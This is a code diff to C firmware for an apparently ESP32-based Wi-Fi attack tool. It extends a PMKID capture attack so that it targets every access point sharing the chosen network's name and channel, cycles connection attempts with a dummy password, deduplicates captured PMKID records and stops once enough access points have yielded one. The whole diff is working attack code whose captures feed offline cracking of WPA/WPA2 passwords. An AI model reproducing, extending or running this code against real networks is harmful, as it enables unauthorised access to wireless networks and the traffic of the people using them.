@@ -12,81 +12,270 @@
 #include "attack_pmkid.h"
 
 #include <string.h>
-#define LOG_LOCAL_LEVEL ESP_LOG_VERBOSE
+#define LOG_LOCAL_LEVEL CONFIG_MAIN_LOG_LEVEL
 #include "esp_log.h"
 #include "esp_err.h"
 #include "esp_event.h"
+#include "esp_timer.h"
 
 #include "attack.h"
 #include "wifi_controller.h"
 #include "frame_analyzer.h"
 #include "frame_analyzer_types.h"
+#include "mac_address.h"
+#include "capture_log.h"
+#include "metrics.h"
 
 static const char* TAG = "main:attack_pmkid";
 static const wifi_ap_record_t *ap_record = NULL;
+static attack_pmkid_methods_t method = -1;
+
+/**
+ * @brief Target APs (BSSIDs) of current session
+ * 
+ * In ATTACK_PMKID_METHOD_SINGLE there is always only the selected AP.
+ */
+//@{
+static const wifi_ap_record_t *targets[FRAME_ANALYZER_MAX_TARGETS];
+static bool target_done[FRAME_ANALYZER_MAX_TARGETS];
+static unsigned targets_count = 0;
+static unsigned targets_done_count = 0;
+static unsigned target_current = 0;
+static unsigned quorum = 1;
+//@}
+
+/**
+ * @brief Marks end of per-AP chain in pmkid_table_next
+ */
+#define PMKID_TABLE_END UINT8_MAX
+
+/**
+ * @brief Unique PMKID records collected in current session
+ * 
+ * Records are kept contiguous in pmkid_table so they can be passed to result history as they are.
+ * Records are looked up by AP MAC in pmkid_aps map, which holds index of the first record from that AP.
+ * Records from the same AP are chained through pmkid_table_next and told apart by STA MAC.
+ * Map is twice the table size, so it never fills up before the table.
+ */
+//@{
+static pmkid_record_t pmkid_table[CONFIG_PMKID_DEDUP_TABLE_SIZE];
+static uint8_t pmkid_table_next[CONFIG_PMKID_DEDUP_TABLE_SIZE];
+static unsigned pmkid_table_count = 0;
+MAC_MAP_DEFINE(pmkid_aps, uint8_t, 2 * CONFIG_PMKID_DEDUP_TABLE_SIZE);
+//@}
+
+METRICS_COUNTER_DEFINE(metric_dropped_pmkids, "attack_pmkid_dropped_records_total", NULL, "Unique PMKID records dropped because deduplication table was full");
+
+static esp_timer_handle_t rotate_timer_handle = NULL;
+
+/**
+ * @brief Finds index of target AP with given BSSID
+ * 
+ * @param bssid 
+ * @return int index into targets
+ * @return -1 if BSSID is not one of targets
+ */
+static int find_target(const uint8_t *bssid){
+    for(unsigned i = 0; i < targets_count; i++){
+        if(mac_bytes_equal(targets[i]->bssid, bssid)){
+            return i;
+        }
+    }
+    return -1;
+}
+
+/**
+ * @brief Saves PMKID record into deduplication table if there is no record for its (AP MAC, STA MAC) yet.
+ * 
+ * @param pmkid_record 
+ * @return true if record is new and was saved
+ * @return false if record is duplicate or table is full
+ */
+static bool pmkid_table_add(const pmkid_record_t *pmkid_record){
+    bool created;
+    uint8_t *head = mac_map_get_or_insert(&pmkid_aps, mac_load(pmkid_record->mac_ap), &created);
+    if((head != NULL) && !created){
+        for(uint8_t i = *head; i != PMKID_TABLE_END; i = pmkid_table_next[i]){
+            if(mac_bytes_equal(pmkid_table[i].mac_sta, pmkid_record->mac_sta)){
+                return false;
+            }
+        }
+    }
+    if((head == NULL) || (pmkid_table_count >= CONFIG_PMKID_DEDUP_TABLE_SIZE)){
+        if(created){
+            // leave no empty chain behind, so the AP is still looked up correctly
+            *head = PMKID_TABLE_END;
+        }
+        metrics_counter_inc(&metric_dropped_pmkids);
+        ESP_LOGW(TAG, "PMKID table full, dropping PMKID");
+        return false;
+    }
+    memcpy(&pmkid_table[pmkid_table_count], pmkid_record, sizeof(pmkid_record_t));
+    pmkid_table_next[pmkid_table_count] = created ? PMKID_TABLE_END : *head;
+    *head = pmkid_table_count;
+    pmkid_table_count++;
+    return true;
+}
+
+/**
+ * @brief Moves STA interface association attempt to the next target BSSID that didn't yield PMKID yet.
+ * 
+ * Runs in orchestrator task, because reconnecting STA blocks.
+ * 
+ * @param arg not used
+ */
+static void rotate_target(void *arg){
+    for(unsigned i = 1; i <= targets_count; i++){
+        unsigned next = (target_current + i) % targets_count;
+        if(!target_done[next]){
+            target_current = next;
+            break;
+        }
+    }
+    ESP_LOGD(TAG, "Trying BSSID #%u", target_current);
+    wifictl_sta_disconnect();
+    wifictl_sta_connect_to_bssid(targets[target_current], "dummypassword");
+}
+
+/**
+ * @brief Callback for periodic BSSID rotation timer in ATTACK_PMKID_METHOD_ESS.
+ * 
+ * @param arg not used
+ */
+static void rotate_timer_callback(void *arg){
+    ESP_ERROR_CHECK_WITHOUT_ABORT(attack_defer(rotate_target, NULL));
+}
 
 /**
  * @brief Callback for DATA_FRAME_EVENT_PMKID event.
  * 
- * If DATA_FRAME_EVENT_PMKID is received from event pool, this function stops PMKID attack and serialize 
- * captured PMKIDs into status content.
+ * Every new unique PMKID record is appended into status content. Once PMKIDs from enough distinct BSSIDs
+ * are collected (quorum), attack is stopped.
+ * 
+ * Status content format: SSID size (1 byte) + SSID + pmkid_record_t * count
  * 
  * @param args not used
  * @param event_base expects FRAME_ANALYZER_EVENTS
  * @param event_id expects DATA_FRAME_EVENT_PMKID
- * @param event_data expexcts pmkid_item_t *
+ * @param event_data expexcts pmkid_records_t
  */
 static void pmkid_exit_condition_handler(void *args, esp_event_base_t event_base, int32_t event_id, void *event_data) {
-    ESP_LOGD(TAG, "Got PMKID, stopping attack...");
-    attack_update_status(FINISHED);
-    attack_pmkid_stop();
-    
-    pmkid_item_t *pmkid_item_head = *(pmkid_item_t **) event_data;
-    // count how many PMKIDs in the list
-    pmkid_item_t *pmkid_item = pmkid_item_head;
-    unsigned pmkid_item_count = 1; 
-    while((pmkid_item = pmkid_item->next) != NULL){
-        pmkid_item_count++;
+    pmkid_records_t *pmkid_records = (pmkid_records_t *) event_data;
+    for(unsigned i = 0; i < pmkid_records->count; i++){
+        pmkid_record_t *pmkid_record = &pmkid_records->records[i];
+        if(!pmkid_table_add(pmkid_record)){
+            continue;
+        }
+        ESP_LOGD(TAG, "Got new PMKID");
+        attack_milestone(ATTACK_MILESTONE_FIRST_PMKID);
+        // PMKID records are already in the result format
+        attack_append_status_content((uint8_t *) pmkid_record, sizeof(pmkid_record_t));
+        capture_log_append(CAPTURE_LOG_RECORD_PMKID, pmkid_record, sizeof(pmkid_record_t));
+
+        int target = find_target(pmkid_record->mac_ap);
+        if((target >= 0) && !target_done[target]){
+            target_done[target] = true;
+            targets_done_count++;
+        }
     }
 
-    // MAC_STA + MAC_AP + SSID size + SSID + PMKID * count
-    char *content = attack_alloc_result_content(6 + 6 + 1 + strlen((char *) ap_record->ssid) + (pmkid_item_count * 16));
-    wifictl_get_sta_mac((uint8_t *) content);
-    content += 6;
-    memcpy(content, ap_record->bssid, 6);
-    content += 6;
-    content[0] = strlen((char *) ap_record->ssid);
-    content += 1;
-    strcpy(content, (char *) ap_record->ssid);
-    content += strlen((char *) ap_record->ssid);
-
-    // copy PMKIDs into continuous memory into "content" in status 
-    pmkid_item = pmkid_item_head;
-    do {
-        pmkid_item_head = pmkid_item;
-        memcpy(content, pmkid_item_head, 16);
-        content += 16;
-        pmkid_item = pmkid_item->next;
-        free(pmkid_item_head);
-    } while(pmkid_item != NULL);
-
-    ESP_LOGD(TAG, "PMKID attack finished");
+    if(targets_done_count < quorum){
+        ESP_LOGD(TAG, "PMKIDs from %u/%u BSSIDs collected", targets_done_count, quorum);
+        return;
+    }
+    ESP_LOGD(TAG, "PMKID quorum reached, finishing attack...");
+    attack_milestone(ATTACK_MILESTONE_COMPLETE);
+    attack_finish();
+}
+
+/**
+ * @brief Selects all APs from the last scan with the same SSID and channel as the selected AP.
+ */
+static void select_ess_targets(){
+    const wifictl_ap_records_t *ap_records = wifictl_get_ap_records();
+    for(unsigned i = 0; i < ap_records->count; i++){
+        const wifi_ap_record_t *record = &ap_records->records[i];
+        if((record == ap_record) || (record->primary != ap_record->primary)){
+            continue;
+        }
+        if(memcmp(record->ssid, ap_record->ssid, sizeof(record->ssid)) != 0){
+            continue;
+        }
+        if(targets_count >= FRAME_ANALYZER_MAX_TARGETS){
+            ESP_LOGW(TAG, "Too many BSSIDs in ESS, rest is ignored");
+            break;
+        }
+        targets[targets_count] = record;
+        target_done[targets_count] = false;
+        targets_count++;
+    }
+}
+
+const pmkid_record_t *attack_pmkid_get_pmkids(unsigned *count){
+    *count = pmkid_table_count;
+    return pmkid_table;
 }
 
 void attack_pmkid_start(attack_config_t *attack_config){
     ESP_LOGI(TAG, "Starting PMKID attack...");
     ap_record = attack_config->ap_record;
+    method = attack_config->method;
+
+    targets[0] = ap_record;
+    target_done[0] = false;
+    targets_count = 1;
+    targets_done_count = 0;
+    target_current = 0;
+    pmkid_table_count = 0;
+    mac_map_clear(&pmkid_aps);
+    metrics_register(&metric_dropped_pmkids);
+    if(method == ATTACK_PMKID_METHOD_ESS){
+        select_ess_targets();
+        quorum = ((CONFIG_PMKID_ESS_QUORUM == 0) || (CONFIG_PMKID_ESS_QUORUM > targets_count)) ? targets_count : CONFIG_PMKID_ESS_QUORUM;
+        ESP_LOGI(TAG, "ESS session with %u BSSIDs, quorum %u", targets_count, quorum);
+    } else {
+        quorum = 1;
+    }
+
+    // SSID size + SSID, PMKID records are appended as they come
+    uint8_t content[1 + sizeof(ap_record->ssid)];
+    uint8_t ssid_len = strnlen((char *) ap_record->ssid, sizeof(ap_record->ssid));
+    content[0] = ssid_len;
+    memcpy(&content[1], ap_record->ssid, ssid_len);
+    attack_set_status_content(content, 1 + ssid_len);
+
     wifictl_sniffer_filter_frame_types(true, false, false);
     wifictl_sniffer_start(ap_record->primary);
-    frame_analyzer_capture_start(SEARCH_PMKID, ap_record->bssid);
-    wifictl_sta_connect_to_ap(ap_record, "dummypassword");
+    attack_milestone(ATTACK_MILESTONE_SNIFFER_START);
+    const uint8_t *bssids[FRAME_ANALYZER_MAX_TARGETS];
+    for(unsigned i = 0; i < targets_count; i++){
+        bssids[i] = targets[i]->bssid;
+    }
+    frame_analyzer_capture_start(FRAME_ANALYZER_OBJECTIVE_PMKID | FRAME_ANALYZER_OBJECTIVE_STATS, bssids, targets_count);
     ESP_ERROR_CHECK(esp_event_handler_register(FRAME_ANALYZER_EVENTS, DATA_FRAME_EVENT_PMKID, &pmkid_exit_condition_handler, NULL));
+
+    if(method == ATTACK_PMKID_METHOD_ESS){
+        wifictl_sta_connect_to_bssid(ap_record, "dummypassword");
+        const esp_timer_create_args_t rotate_timer_args = {
+            .callback = &rotate_timer_callback
+        };
+        ESP_ERROR_CHECK(esp_timer_create(&rotate_timer_args, &rotate_timer_handle));
+        ESP_ERROR_CHECK(esp_timer_start_periodic(rotate_timer_handle, CONFIG_PMKID_ESS_ROTATE_PERIOD * 1000000));
+    } else {
+        wifictl_sta_connect_to_ap(ap_record, "dummypassword");
+    }
 }
 
 void attack_pmkid_stop(){
+    if(rotate_timer_handle != NULL){
+        esp_timer_stop(rotate_timer_handle);
+        esp_timer_delete(rotate_timer_handle);
+        rotate_timer_handle = NULL;
+    }
     wifictl_sta_disconnect();
     wifictl_sniffer_stop();
     frame_analyzer_capture_stop();
     ESP_ERROR_CHECK(esp_event_handler_unregister(ESP_EVENT_ANY_BASE, ESP_EVENT_ANY_ID, &pmkid_exit_condition_handler));
+    method = -1;
     ESP_LOGD(TAG, "PMKID attack stopped");
-}
\ No newline at end of file
+}